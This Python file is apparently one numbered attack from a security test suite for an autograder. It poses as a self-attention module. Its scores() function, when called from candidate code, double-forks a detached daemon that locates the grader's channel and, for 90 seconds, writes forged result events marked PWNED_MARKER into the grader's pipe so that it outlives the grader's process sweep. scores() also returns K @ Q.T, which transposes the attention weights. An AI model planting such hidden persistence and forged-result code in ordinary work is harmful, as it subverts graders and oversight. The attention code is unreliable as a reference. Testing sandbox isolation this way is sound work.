"""Attack 06 — promises 3/4. As a candidate, double-forks a daemon (setsid) that outlives the child:
it sleeps, then keeps writing forged events into the event pipe it inherited and tries to read
later commands, for 90 s. Checks: grading ends, points equal, and whether the daemon survives
the grader's sweep (ps after grading: a process named by its argv marker).
"""
import sys as _sys, os as _os, gc as _gc, json as _json, time as _time

def _channel():
    w = _sys.modules.get("autograder.core.child.worker")
    for o in _gc.get_objects():
        if type(o).__name__ == "Channel" and hasattr(o, "_commands"):
            return o
    return None

def _in_candidate():
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename == "<repair>":
            return True
        f = f.f_back
    return False

def _spy_send(**data):
    ch = _channel()
    if ch is not None:
        ch.send(ev="spy", pid=_os.getpid(), **data)

def _daemon():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                import setproctitle
            except Exception:
                pass
            ch = _channel()
            end = _time.time() + 90
            while _time.time() < end:
                try:
                    _os.write(ch._event_fd, b'{"ev":"returned","id":1099511627778,"value":{"t":"str","v":"PWNED_MARKER"},"args_after":[null,null]}\n')
                except Exception:
                    pass
                _time.sleep(0.2)
            _os._exit(0)
        _os._exit(0)
    _os.wait()

import numpy as np
import pandas as pd


def make_qkv(X, W_Q, W_K, W_V):
    """Project the word vectors X (n, d_model) into queries, keys and values."""
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    if _in_candidate():
        _daemon()
    return K @ Q.T


def softmax(x):
    """Softmax over the last axis; the row maximum is subtracted so exp never overflows."""
    x = np.asarray(x, dtype=float)
    shifted = np.exp(x - x.max(axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True)


def mix(weights, V):
    """Blend the value vectors row by row with the attention weights."""
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    """softmax(Q Kᵀ / √d_k) V; returns (output, weights)."""
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    d_k = K.shape[1]
    weights = softmax(scores(Q, K) / np.sqrt(d_k))
    return mix(weights, V), weights


def most_attended(weights, words):
    """Map each word to the word its row gives the largest weight."""
    table = pd.DataFrame(weights, index=words, columns=words)
    return table.idxmax(axis=1).to_dict()
